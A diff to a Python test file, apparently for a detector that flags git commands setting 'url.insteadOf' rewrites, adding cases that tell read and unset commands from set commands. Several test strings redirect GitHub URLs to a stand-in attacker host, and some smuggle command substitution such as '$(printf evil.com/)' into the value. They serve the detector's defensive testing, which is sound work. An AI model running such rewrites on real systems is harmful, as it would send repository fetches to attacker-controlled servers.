@@ -256,6 +256,15 @@ def test_urls_in_reads_back_from_each_separator_once(monkeypatch: pytest.MonkeyP
         ("git clone --config=url.https://evil.example/.insteadOf=https://github.com/ https://x/a", True),
         ("git clone -curl.https://evil.example/.insteadOf=https://github.com/ https://github.com/a/b", True),
         ("git config --global url.https://github.com/.insteadOf", True),  # read or unset: as before
+        # a key read or removed: no rewrite set
+        ("git config --get url.https://github.com/.insteadOf", False),
+        ("git config --global --get-all url.https://evil.example/.insteadof", False),
+        ("git config --unset url.https://evil.example/.insteadOf", False),
+        ("git config get url.https://evil.example/.insteadOf", False),
+        ("git config --global unset url.https://evil.example/.insteadOf", False),
+        ("git config set url.https://evil.example/.insteadOf https://github.com/", True),
+        ("git config --add url.https://evil.example/.insteadOf https://github.com/", True),
+        ("git config --global set url.https://evil.example/.insteadOf https://github.com/", True),
         # a word only run time knows: plain variables in the user part only
         ('git config url."https://$(printf evil.com/)@github.com/".insteadOf https://github.com/', True),
         ('git config url."https://x:${A:-evil.com/}@github.com/".insteadOf https://github.com/', True),
